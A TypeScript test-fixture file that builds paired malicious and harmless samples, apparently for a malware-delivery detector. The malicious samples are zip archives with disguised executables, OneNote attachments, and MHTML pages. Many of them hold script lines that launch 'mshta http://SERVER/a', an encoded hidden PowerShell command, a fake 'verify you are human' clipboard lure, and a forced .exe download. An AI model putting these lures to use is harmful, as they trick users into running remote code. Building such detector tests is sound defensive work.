/** Archives, notes and web archives that deliver a program: ways to write each of them. */

import { writeZip } from '../zip-writer.ts'
import { type Pair, pairs, type Row } from './matrix.ts'
import { CODED, FETCH, library, SEARCH, SERVER, SYSTEM, shortcut, taskpad } from './shortcuts.ts'

const MZ = `MZ${'\0'.repeat(58)}\x80${'\0'.repeat(67)}PE\0\0${'\0'.repeat(400)}`
const program = Buffer.from(MZ, 'latin1')
const JAR = writeZip([
  { name: 'META-INF/MANIFEST.MF', data: Buffer.from('Main-Class: A\n') },
  { name: 'A.txt', data: Buffer.from('text') },
])
const SCRIPT = Buffer.from(`new ActiveXObject("WScript.Shell").Run("mshta http://${SERVER}/a")`)
const PLAIN = Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')
const packed = (files: Record<string, Uint8Array>): Uint8Array =>
  writeZip(Object.entries(files).map(([name, data]) => ({ name, data })))
const ARCHIVES: readonly Pair[] = (
  [
    ['one program with two extensions', { 'Invoice.pdf.exe': program }, { 'Invoice.pdf': PLAIN }],
    [
      'a program with spaces before its extension',
      { [`Invoice.pdf${' '.repeat(60)}.scr`]: program },
      { 'Invoice.pdf': PLAIN },
    ],
    ['a program with a sign that turns its name', { 'Invoice\u202efdp.exe': program }, { 'Invoice.pdf': PLAIN }],
    [
      'a program with many words and a library of Windows beside it',
      { 'Evidence of the infringement - legal notice.exe': program, 'version.dll': program, '_/a.pdf': PLAIN },
      { 'Reader.exe': program, 'version.dll': program, '_/a.pdf': PLAIN },
    ],
    [
      'a program named as a paper and a library of Windows, in a folder',
      { 'a/Invoice 4711.exe': program, 'a/WTSAPI32.DLL': program, 'a.txt': PLAIN },
      { 'a/Invoice 4711.exe': program, 'a/invoices.dll': program, 'b/wtsapi32.dll': program },
    ],
    ['a screen saver', { 'Photos.scr': program }, { 'Photos.txt': Buffer.from('Photos') }],
    [
      'a script with two extensions',
      { 'Invoice.pdf.js': SCRIPT },
      { 'tools/build.js': Buffer.from('module.exports = 1\n') },
    ],
    [
      'a shortcut beside a hidden folder',
      {
        'Invoice.pdf.lnk': shortcut({ environment: `${SYSTEM}rundll32.exe`, args: '_data\\a.dat,#1' }),
        '_data/a.dat': program,
      },
      { 'Invoice.pdf': PLAIN, '_data/a.txt': PLAIN },
    ],
    [
      'an archive in an archive',
      { 'Invoice.zip': packed({ 'Invoice.pdf.exe': program }) },
      { 'Invoice.zip': packed({ 'Invoice.pdf': PLAIN }) },
    ],
    ['a Java program named as a paper', { 'Invoice.pdf.jar': JAR }, { 'lib/pdf.jar': JAR, 'read me.txt': PLAIN }],
    [
      'a script for Windows',
      { 'Invoice.vbs': Buffer.from(`CreateObject("WScript.Shell").Run "mshta http://${SERVER}/a"`) },
      { 'a.vbs': Buffer.from('WScript.Echo "Good morning"') },
    ],
    [
      'a script that is named as a picture',
      { 'a.png': PLAIN, 'a.png.wsf': Buffer.from(`<job><script language="JScript">${SCRIPT}</script></job>`) },
      { 'a.png': PLAIN },
    ],
    [
      'a page for Windows',
      { 'Invoice.hta': Buffer.from(`<hta:application/><script>${SCRIPT}</script>`) },
      { 'Invoice.html': Buffer.from('<p>Invoice</p>') },
    ],
    [
      'a batch file',
      { 'Invoice.bat': Buffer.from(`@echo off\r\nmshta http://${SERVER}/a\r\n`) },
      { 'build.bat': Buffer.from('@echo off\r\nnpm ci\r\n') },
    ],
  ] as const
).map(([name, attack, harmless]) => ({ name, attack: packed(attack), harmless: packed(harmless) }))

/** A section of OneNote with attached files. */
function note(...files: readonly (string | Uint8Array)[]): Buffer {
  const section = Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex')
  const stored = files.map((data) => {
    const header = Buffer.alloc(36)
    Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex').copy(header)
    header.writeUInt32LE(data.length, 16)
    return Buffer.concat([header, Buffer.from(data), Buffer.from('22a7fb71790f0b4abb13899256426b24', 'hex')])
  })
  return Buffer.concat([section, Buffer.alloc(64), ...stored])
}
const NOTE_TEXT = 'A plain text about the month.'
const ATTACHMENTS: readonly (readonly [name: string, attack: string | Uint8Array])[] = [
  [
    'an application of HTML',
    '<html><hta:application/><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>',
  ],
  ['a batch file', `@echo off\r\nmshta http://${SERVER}/a\r\n`],
  ['a batch file without its first line', `powershell -w hidden -enc ${CODED}\r\nexit\r\n`],
  ['a script of PowerShell', `${FETCH}\r\n`],
  ['JScript', `var s = new ActiveXObject("WScript.Shell");\ns.Run("mshta http://${SERVER}/a");\n`],
  ['VBScript', `Set s = CreateObject("WScript.Shell")\ns.Run "mshta http://${SERVER}/a", 0\n`],
  ['a job', '<job><script language="JScript">new ActiveXObject("WScript.Shell").Run("calc")</script></job>'],
  ['a program', program],
  ['a shortcut', shortcut({ environment: `${SYSTEM}cmd.exe`, args: `/c mshta http://${SERVER}/a` })],
  ['an archive with a program', packed({ 'a.exe': program })],
  ['a link file', `[InternetShortcut]\r\nURL=file://${SERVER}/s/a.exe\r\n`],
  ['an encoded script', '#@~^EQAAAA==hk^DbwDR3m4W,JuJ7wUAAA==^#~@'],
  ['a console', taskpad('mshta.exe', `http://${SERVER}/a`)],
  ['a library', library(`\\\\${SERVER}\\s`)],
  [
    'a page that saves a program',
    `<html><script>var a=document.createElement("a");a.href="data:application/octet-stream;base64,${program.toString('base64')}";a.download="a.exe";a.click()</script></html>`,
  ],
]

const boundary = '----=_part'
/** A web archive: its page and parts, by their ids or addresses. */
function archive(
  body: string,
  parts: readonly { type: string; id?: string; location?: string; data: string; isPlain?: boolean }[],
): Buffer {
  const page = `Content-Type: text/html\r\nContent-Location: file:///C:/a.htm\r\n\r\n${body}\r\n`
  const others = parts.map(
    ({ type, id, location, data, isPlain }) =>
      `Content-Type: ${type}\r\n${id === undefined ? '' : `Content-ID: <${id}>\r\n`}${location === undefined ? '' : `Content-Location: ${location}\r\n`}Content-Transfer-Encoding: ${isPlain ? '7bit' : 'base64'}\r\n\r\n${isPlain ? data : Buffer.from(data).toString('base64')}\r\n`,
  )
  return Buffer.from(
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="${boundary}"\r\n\r\n${[page, ...others].map((part) => `--${boundary}\r\n${part}`).join('')}--${boundary}--\r\n`,
  )
}
const HUMAN = '<p>Verify you are human: press Windows + R, then Ctrl + V.</p>'
const COPIES = `navigator.clipboard.writeText('mshta http://${SERVER}/a')`
const BODY = (tags: string): string =>
  `<html><head><title>Document</title></head><body><p>Please wait.</p>${tags}</body></html>`
const WAITS = 'document.title = "Please wait"'
const SAVES = `var b=atob("${program.toString('base64')}"),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([u]));a.download="a.exe";a.click()`
const referred = (name: string, write: (script: string) => Uint8Array, script: string): Row => [
  name,
  write(script),
  write(WAITS),
]
const WEB_ARCHIVES: readonly Row[] = (
  [
    ['copies a command', COPIES, HUMAN],
    ['saves a program', SAVES, ''],
    ['opens a search', `location.href=${JSON.stringify(SEARCH)}`, ''],
  ] as const
).flatMap(([what, script, words]) => [
  referred(
    `a script by its id that ${what}`,
    (source) =>
      archive(BODY(`${words}<script src="cid:a@b"></script>`), [{ type: 'text/javascript', id: 'a@b', data: source }]),
    script,
  ),
  referred(
    `a script by its address that ${what}`,
    (source) =>
      archive(BODY(`${words}<script src="http://a.example/a.js"></script>`), [
        { type: 'application/javascript', location: 'http://a.example/a.js', data: source, isPlain: true },
      ]),
    script,
  ),
  referred(
    `a script by a relative address that ${what}`,
    (source) =>
      archive(BODY(`${words}<script src="a.js"></script>`), [
        { type: 'text/plain', location: 'file:///C:/a.js', data: source },
      ]),
    script,
  ),
  referred(
    `a frame by its id that ${what}`,
    (source) =>
      archive(BODY('<iframe src="cid:f@b"></iframe>'), [
        { type: 'text/html', id: 'f@b', data: BODY(`${words}<script>${source}</script>`) },
      ]),
    script,
  ),
  referred(
    `a frame by its address that ${what}`,
    (source) =>
      archive(BODY('<iframe src="http://a.example/f.htm"></iframe>'), [
        { type: 'text/html', location: 'http://a.example/f.htm', data: BODY(`${words}<script>${source}</script>`) },
      ]),
    script,
  ),
])

const coded = (source: string): string => `data:text/javascript;base64,${Buffer.from(source).toString('base64')}`
/** Code that a page contains as an address, and a part of an archive without an encoding. */
const ADDRESSED: readonly Row[] = (
  [
    ['copies a command', COPIES, HUMAN],
    ['saves a program', SAVES, ''],
  ] as const
).flatMap(([what, script, words]) => [
  referred(
    `an imported address that ${what}`,
    (source) => Buffer.from(BODY(`${words}<script type="module">import("${coded(source)}")</script>`)),
    script,
  ),
  referred(
    `an address of a new element that ${what}`,
    (source) =>
      Buffer.from(
        BODY(
          `${words}<script>var s=document.createElement("script");s.src='${coded(source)}';document.body.append(s)</script>`,
        ),
      ),
    script,
  ),
  referred(
    `a part without an encoding that ${what}`,
    (source) =>
      Buffer.from(
        archive(BODY(`${words}<script src="cid:a@b"></script>`), [
          { type: 'text/javascript', id: 'a@b', data: source, isPlain: true },
        ])
          .toString()
          .replaceAll('Content-Transfer-Encoding: 7bit\r\n', ''),
      ),
    script,
  ),
])

export const FILES: Readonly<Record<string, readonly Pair[]>> = {
  'archives that deliver one program': ARCHIVES,
  'notes with attachments': ATTACHMENTS.map(([name, attack]) => ({
    name,
    attack: note(attack),
    harmless: note(NOTE_TEXT),
  })),
  'parts of web archives': pairs(WEB_ARCHIVES),
  'code in addresses of pages': pairs(ADDRESSED),
}
